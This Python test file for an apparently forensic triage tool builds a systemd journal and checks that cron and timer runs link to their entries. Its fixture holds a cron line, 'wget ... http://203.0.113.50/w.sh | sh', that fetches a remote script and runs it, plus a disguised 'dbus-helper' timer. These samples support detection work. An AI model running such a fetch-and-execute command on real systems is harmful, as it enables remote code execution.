"""Cron and timer runs read from a real systemd journal file (written by Debian's systemd-journal-remote
from journal export text) through dissect's journal reader, and tied to the entries they ran."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

from triage.collect import Context
from triage.run import run

JOURNAL_REMOTE = "/lib/systemd/systemd-journal-remote"  # Debian package systemd-journal-remote
EXPORT = """\
__REALTIME_TIMESTAMP=1710407400000000
__MONOTONIC_TIMESTAMP=1000000
_BOOT_ID=0123456789abcdef0123456789abcdef
_HOSTNAME=web-prod-07
SYSLOG_IDENTIFIER=CRON
_PID=4242
PRIORITY=6
MESSAGE=(www-data) CMD (/bin/sh -c 'wget -q -O- http://203.0.113.50/w.sh | sh')

__REALTIME_TIMESTAMP=1710407580000000
__MONOTONIC_TIMESTAMP=2000000
_BOOT_ID=0123456789abcdef0123456789abcdef
_HOSTNAME=web-prod-07
SYSLOG_IDENTIFIER=systemd
_PID=1
PRIORITY=6
MESSAGE=Started dbus-helper.service - D-Bus Helper.

"""


def _host_with_journal(linux_images, tmp_path: Path) -> Path:
    root = tmp_path / "rootfs"
    shutil.copytree(linux_images["dir"], root, symlinks=True)
    folder = root / "var/log/journal/4c1d1f1f0e8a4b6c9a3d2e1f0a9b8c7d"
    folder.mkdir(parents=True)
    export = tmp_path / "export.txt"
    export.write_text(EXPORT, encoding="utf-8")
    subprocess.run([JOURNAL_REMOTE, f"--output={folder / 'system.journal'}", str(export)], check=True, capture_output=True)
    return root


def test_journal_runs_are_linked_to_their_entries(linux_images, tmp_path):
    ctx = Context(quiet=True)
    case = run([str(_host_with_journal(linux_images, tmp_path))], ctx, hunt_date="20260101")
    journal = sorted((e for e in case.events if e.channel == "journal"), key=lambda e: e.time.utc)
    assert [(e.action, e.task, e.time.utc) for e in journal] == [
        ("cron_run", "/var/spool/cron/crontabs/www-data:4", "2024-03-14T09:10:00Z"),  # 10:10 Berlin: a */10 minute
        ("timer_service_start", "/etc/systemd/system/dbus-helper.timer", "2024-03-14T09:13:00Z"),
    ]
    assert journal[0].user == "www-data" and journal[0].process_id == 4242
    assert not [g for g in ctx.gaps if "journal" in g.location]
